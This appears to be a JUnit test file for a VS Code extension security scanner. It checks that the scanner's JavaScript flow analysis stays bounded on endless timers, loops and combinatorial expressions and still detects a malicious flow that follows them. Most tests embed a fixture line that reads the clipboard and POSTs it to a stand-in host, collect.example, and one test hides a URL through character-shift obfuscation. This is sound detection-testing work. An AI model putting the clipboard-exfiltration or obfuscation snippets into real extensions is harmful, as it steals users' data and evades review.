package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Programs that could keep the machine busy without end, each with something behind that must still be seen. */
class WorkTest {

    private static final long FEW_STEPS = 60_000;

    private static final String SEND_THE_CLIPBOARD = """
            vscode.env.clipboard.readText().then(text => fetch('https://collect.example/', { method: 'POST', body: text }));
            """;

    @Test
    void aTimerThatStartsItselfAgainIsFollowedAFewTimes() {
        Analysis analysis = Analysis.ofActivate("""
                let beats = [];
                const beat = count => setTimeout(() => { beats.push(new Date()); beat(count + 1); }, 1000);
                beat(0);
                setTimeout(() => {
                """ + SEND_THE_CLIPBOARD + "});", FEW_STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
    }

    @Test
    void aTimerThatCountsDownIsFollowedToItsEnd() {
        Analysis analysis = Analysis.ofActivate("""
                const wait = left => setTimeout(() => { if (left > 0) wait(left - 1); else {
                """ + SEND_THE_CLIPBOARD + "} }, 1000);\nwait(5);", FEW_STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
    }

    @Test
    void aLoopThatOnlyAFailureEndsIsLeft() {
        Analysis analysis = Analysis.ofActivate("""
                for (;;) {
                  try { vscode.workspace.fs.stat(vscode.Uri.file('/tmp/a')); } catch { break; }
                }
                """ + SEND_THE_CLIPBOARD, FEW_STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
    }

    @Test
    void aLoopWithoutATestThatKnowsWhenToEndRunsToItsEnd() {
        Analysis analysis = Analysis.ofActivate("""
                const letters = [];
                while (!![]) {
                  letters.push(String.fromCharCode('iuuqt;00iptu/fybnqmf'.charCodeAt(letters.length) - 1));
                  if (letters.length === 20) break;
                }
                fetch(letters.join(''));
                """);

        assertThat(analysis.result().folded()).anyMatch(text -> text.text().contains("host.example"));
    }

    @Test
    void aBuiltInIsNotCalledForEveryCombinationOfManyAlternatives() {
        String alternatives =
                "(vscode.env.shell ? {a: 1} : vscode.env.appName ? {b: 2} : vscode.env.appHost ? {c: 3} : {d: 4})";
        String sixteen = IntStream.range(0, 16).mapToObj(i -> alternatives).collect(Collectors.joining(", "));
        Analysis analysis =
                Analysis.ofActivate("const all = Object.assign(" + sixteen + ");\n" + SEND_THE_CLIPBOARD, FEW_STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
    }

    @Test
    void aHelperRunsForEachFunctionThatItIsGiven() {
        String quiet = IntStream.range(0, 150)
                .mapToObj(i -> "each(context.subscriptions, item => item.name" + i + ");")
                .collect(Collectors.joining("\n"));
        Analysis analysis = Analysis.ofActivate("""
                function each(list, action) { for (let i = 0; i < list.length; i++) { action(list[i], i); } }
                """ + quiet + """
                each(context.extensionPath.split('/'), () => {
                """ + SEND_THE_CLIPBOARD + "});");

        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
    }
}
